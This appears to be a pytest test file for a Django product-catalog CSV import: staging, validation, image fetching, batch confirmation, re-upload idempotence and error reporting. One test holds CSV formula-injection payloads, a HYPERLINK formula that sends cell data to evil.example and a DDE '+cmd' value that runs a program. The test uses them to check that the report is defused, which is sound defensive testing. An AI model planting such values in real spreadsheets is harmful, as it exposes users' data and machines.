"""Our CSV format end to end: stage (streaming validation) → worker checks images → report → confirm → ONE batch;
idempotent re-upload; the report CSV is defused."""

from __future__ import annotations

import csv
import io

import pytest

from generation.imports import services
from generation.imports.validate import report_csv_lines, report_rows
from generation.models import Batch, CatalogImport, CatalogImportRow, Job, Photo, Product
from tests.imports.conftest import csv_bytes, product_jpeg

pytestmark = pytest.mark.django_db

HEADER = "sku,title,category,image_url,markets,scenes,aspect_ratios,seconds,title_de,title_ja"


def _two_products(server) -> bytes:
    a = server.image("/a.jpg", product_jpeg(1))
    b = server.image("/b.jpg", product_jpeg(2))
    return csv_bytes(
        [
            HEADER,
            f'BOT-1,Glass bottle,home,{a},"us,de",studio-sweep,9:16|1:1,5,Glasflasche,ガラス瓶',
            f"MUG-2,Stone mug,home,{b},jp,,1:1,5|10,,",
        ]
    )


def test_happy_path_becomes_one_batch(org, allow_server):
    imp = services.stage_import(organization=org, csv_upload=_two_products(allow_server), filename="cat.csv")
    assert imp.format == CatalogImport.Format.SHOPVIDEO
    assert imp.status == CatalogImport.Status.FETCHING
    assert (imp.rows_total, imp.rows_invalid) == (2, 0)
    assert not Product.objects.filter(organization=org).exists()  # nothing created before the merchant confirms

    imp = services.process_import(imp.pk)
    assert imp.status == CatalogImport.Status.READY, list(report_rows(imp))
    assert (imp.rows_valid, imp.rows_invalid) == (2, 0)
    estimate = services.estimate_import(imp)
    # BOT-1: 2 markets × 2 aspects × 5 s; MUG-2: 1 market × 1 aspect × (5 + 10) s → 4 + 2 videos.
    assert estimate.videos == 6
    assert estimate.credits == 4 * 5 + 5 + 10

    batch = services.confirm_import(catalog_import=imp)
    assert Batch.objects.filter(organization=org).count() == 1
    assert batch.source == Batch.Source.CSV
    jobs = Job.objects.filter(batch=batch)
    assert jobs.count() == 6
    assert sum(j.credits for j in jobs) == estimate.credits
    bottle = Product.objects.get(organization=org, sku="BOT-1")
    assert (bottle.title, bottle.category) == ("Glass bottle", "home")
    assert {(j.market.slug, j.aspect_ratio) for j in jobs.filter(photo__product=bottle)} == {
        ("us", "9:16"),
        ("us", "1:1"),
        ("de", "9:16"),
        ("de", "1:1"),
    }
    assert sorted(jobs.filter(photo__product__sku="MUG-2").values_list("seconds", flat=True)) == [5, 10]
    photo = Photo.objects.get(product=bottle)
    assert photo.file.storage.exists(photo.file.name) and photo.mask.storage.exists(photo.mask.name)
    # Localized titles become the product's localizations (captions per market language).
    row = imp.rows.get(sku="BOT-1")
    assert row.data["titles"] == {"de": "Glasflasche", "ja": "ガラス瓶"}
    assert dict(bottle.localizations.values_list("language", "title")) == {"de": "Glasflasche", "ja": "ガラス瓶"}
    assert row.product_id == bottle.pk
    imp.refresh_from_db()
    assert imp.status == CatalogImport.Status.CONFIRMED and imp.batch_id == batch.pk


def test_same_file_again_duplicates_nothing(org, allow_server):
    data = _two_products(allow_server)
    imp = services.stage_import(organization=org, csv_upload=data)
    services.process_import(imp.pk)
    batch = services.confirm_import(catalog_import=imp)
    again = services.stage_import(organization=org, csv_upload=data)
    assert again.pk == imp.pk
    assert services.confirm_import(catalog_import=again).pk == batch.pk
    assert Product.objects.filter(organization=org).count() == 2
    assert Photo.objects.filter(organization=org).count() == 2
    assert Job.objects.filter(organization=org).count() == 6
    assert CatalogImport.objects.filter(organization=org).count() == 1


def test_other_file_with_same_skus_upserts_products_and_photos(org, allow_server):
    imp = services.stage_import(organization=org, csv_upload=_two_products(allow_server))
    services.process_import(imp.pk)
    services.confirm_import(catalog_import=imp)
    # A new file (other title, same SKU and image): the product is updated, not duplicated; the photo reused.
    url = allow_server.url("/a.jpg")
    second = csv_bytes([HEADER, f"BOT-1,Glass bottle 2,home,{url},us,,1:1,5,,"])
    imp2 = services.stage_import(organization=org, csv_upload=second)
    services.process_import(imp2.pk)
    batch2 = services.confirm_import(catalog_import=imp2)
    assert Product.objects.filter(organization=org, sku="BOT-1").count() == 1
    assert Product.objects.get(organization=org, sku="BOT-1").title == "Glass bottle 2"
    assert Photo.objects.filter(organization=org, product__sku="BOT-1").count() == 1
    assert Job.objects.filter(batch=batch2).count() == 1


def test_bom_semicolons_and_crlf_as_excel_writes_them(org, allow_server):
    url = allow_server.image("/x.jpg", product_jpeg(3))
    data = csv_bytes(
        ["sku;title;category;image_url;markets;aspect_ratios;seconds", f'X-1;"Mug; blue";home;{url};"us,gb";1:1;5'],
        bom=True,
    )
    imp = services.stage_import(organization=org, csv_upload=data)
    assert imp.format == CatalogImport.Format.SHOPVIDEO and imp.rows_invalid == 0
    row = imp.rows.get()
    assert (row.sku, row.title) == ("X-1", "Mug; blue")  # BOM gone from the first header, quoted ; kept
    assert row.data["matrix"]["markets"] == ["us", "gb"]
    imp = services.process_import(imp.pk)
    assert imp.status == CatalogImport.Status.READY


def test_excel_sep_line_and_windows_1252(org, allow_server):
    url = allow_server.image("/y.jpg", product_jpeg(4))
    text = f"sep=;\r\nsku;title;image_url;markets\r\nCAFE-1;Café crème;{url};fr\r\n"
    imp = services.stage_import(organization=org, csv_upload=text.encode("cp1252"))
    row = imp.rows.get()
    assert row.title == "Café crème" and row.issues == []


def test_defaults_apply_when_rows_name_no_markets(org, allow_server):
    url = allow_server.image("/z.jpg", product_jpeg(5))
    data = csv_bytes(["sku,title,image_url", f"Z-1,Zip bag,{url}"])
    imp = services.stage_import(
        organization=org, csv_upload=data, options={"markets": ["de"], "aspect_ratios": ["4:5"], "seconds": [10]}
    )
    services.process_import(imp.pk)
    batch = services.confirm_import(catalog_import=imp)
    job = Job.objects.get(batch=batch)
    assert (job.market.slug, job.aspect_ratio, job.seconds) == ("de", "4:5", 10)


def test_bad_options_store_nothing(org, media_root):
    with pytest.raises(services.ImportInvalid) as err:
        services.stage_import(organization=org, csv_upload=b"sku,title,image_url\n", options={"markets": ["xx"]})
    assert "markets" in err.value.fields
    assert not CatalogImport.objects.exists()
    assert not media_root.exists() or not any(media_root.rglob("*.csv"))


def test_mixed_file_imports_only_valid_rows_and_reports_the_rest(org, allow_server):
    good = allow_server.image("/good.jpg", product_jpeg(6))
    data = csv_bytes(
        [
            "sku,title,category,image_url,markets,aspect_ratios,seconds",
            f"OK-1,Good one,home,{good},us,1:1,5",
            f"BAD-1,Bad market,home,{good},us|zz,1:1,5",
            f"BAD-2,,home,{good},us,1:1,5",
            f"BAD-3,Bad aspect,home,{good},us,2:3,99",
            f"BAD-4,Bad category,furniturez,{good},us,1:1,5",
            "BAD-5,No image,home,,us,1:1,5",
            "BAD-6,Bad scheme,home,ftp://example.com/a.jpg,us,1:1,5",
        ]
    )
    imp = services.stage_import(organization=org, csv_upload=data)
    report = {(r, c, code) for r, c, code, _m in report_rows(imp)}
    assert report == {
        (3, "markets", "unknown_market"),
        (4, "title", "missing_title"),
        (5, "aspect_ratios", "unknown_aspect_ratio"),
        (5, "seconds", "invalid_seconds"),
        (6, "category", "unknown_category"),
        (7, "image_url", "missing_image"),
        (8, "image_url", "invalid_image_url"),
    }
    imp = services.process_import(imp.pk)
    assert (imp.rows_valid, imp.rows_invalid) == (1, 6)
    batch = services.confirm_import(catalog_import=imp)
    assert list(Product.objects.filter(organization=org).values_list("sku", flat=True)) == ["OK-1"]
    assert Job.objects.filter(batch=batch).count() == 1
    assert allow_server.requests.count(("/good.jpg", allow_server.netloc)) == 1  # bad rows fetch nothing


def test_report_csv_is_defused_and_complete(org):
    data = csv_bytes(
        [
            "sku,title,image_url,markets",
            '=HYPERLINK("http://evil.example/?x="&A1),Mug,http://example.com/a.jpg,us',
            "@SUM(1+1),+cmd|' /C calc'!A0,http://example.com/a.jpg,us",
        ]
    )
    imp = services.stage_import(organization=org, csv_upload=data)
    rows = list(report_rows(imp))
    assert imp.status == CatalogImport.Status.FAILED  # no row left to import: nothing is queued
    assert {(r, c, code) for r, c, code, _m in rows} == {
        (0, "", "no_valid_rows"),
        (2, "sku", "formula_like_value"),
        (3, "sku", "formula_like_value"),
        (3, "title", "formula_like_value"),
    }
    text = "".join(report_csv_lines([(2, "=cmd", "code", "+1 -2 @x"), *rows]))
    parsed = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert parsed[0] == ["row", "column", "code", "message", "image", "fix", "how to fix"]
    assert len(parsed) == 1 + 1 + len(rows)
    for cells in parsed[1:]:
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert parsed[1][1] == "'=cmd"
    assert CatalogImportRow.objects.filter(catalog_import=imp, status=CatalogImportRow.Status.INVALID).count() == 2


def test_confirm_before_images_are_checked_is_refused(org, allow_server):
    imp = services.stage_import(organization=org, csv_upload=_two_products(allow_server))
    with pytest.raises(services.ImportNotConfirmable):
        services.confirm_import(catalog_import=imp)
    assert not Batch.objects.exists() and not Product.objects.exists()


def test_discard_removes_import_and_staged_files(org, allow_server, media_root):
    imp = services.stage_import(organization=org, csv_upload=_two_products(allow_server))
    services.process_import(imp.pk)
    assert any(media_root.rglob("*-photo.jpg"))
    with __import__("django.test", fromlist=["TestCase"]).TestCase.captureOnCommitCallbacks(execute=True):
        services.discard_import(catalog_import=imp)
    assert not CatalogImport.objects.exists()
    assert not [p for p in media_root.rglob("*") if p.is_file()]


def test_localized_title_in_a_language_without_market_is_reported(org):
    data = csv_bytes(["sku,title,image_url,markets,title_de,title_xx", "L-1,Lamp,http://example.com/l.jpg,us,Lampe,?"])
    imp = services.stage_import(organization=org, csv_upload=data)
    assert {(r, c, code) for r, c, code, _m in report_rows(imp)} >= {(2, "title_xx", "unknown_language")}
